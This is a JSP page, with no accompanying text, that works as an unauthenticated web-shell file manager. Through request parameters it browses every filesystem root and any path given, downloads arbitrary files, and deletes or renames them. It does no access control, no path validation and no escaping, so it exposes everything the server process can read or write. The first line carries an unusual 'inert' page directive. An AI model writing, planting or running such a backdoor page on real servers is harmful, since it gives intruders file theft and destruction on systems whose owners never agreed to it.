<%@ page inert %>
<%@ page import="java.io.*" %>
<%!
  void send(File f, HttpServletResponse r) throws IOException {
    r.setHeader("Content-Disposition", "attachment; filename=" + f.getName());
    FileInputStream in = new FileInputStream(f);
    byte[] b = new byte[4096]; int n;
    while ((n = in.read(b)) > 0) r.getOutputStream().write(b, 0, n);
  }
%>
<%
String d = request.getParameter("dir");
File cur = new File(d == null ? application.getRealPath("/") : d);
String a = request.getParameter("a");
if ("get".equals(a)) { send(cur, response); return; }
if ("del".equals(a)) cur.delete();
if ("ren".equals(a)) cur.renameTo(new File(request.getParameter("to")));
for (File r : File.listRoots()) out.println("<a href='?dir=" + r + "'>" + r + "</a>");
File[] l = cur.listFiles();
if (l != null) for (File f : l)
  out.println("<br><a href='?dir=" + f.getAbsolutePath() + "'>" + f.getName() + "</a> " + f.length() + " <a href='?a=get&dir=" + f + "'>get</a> <a href='?a=del&dir=" + f + "'>del</a>");
%>
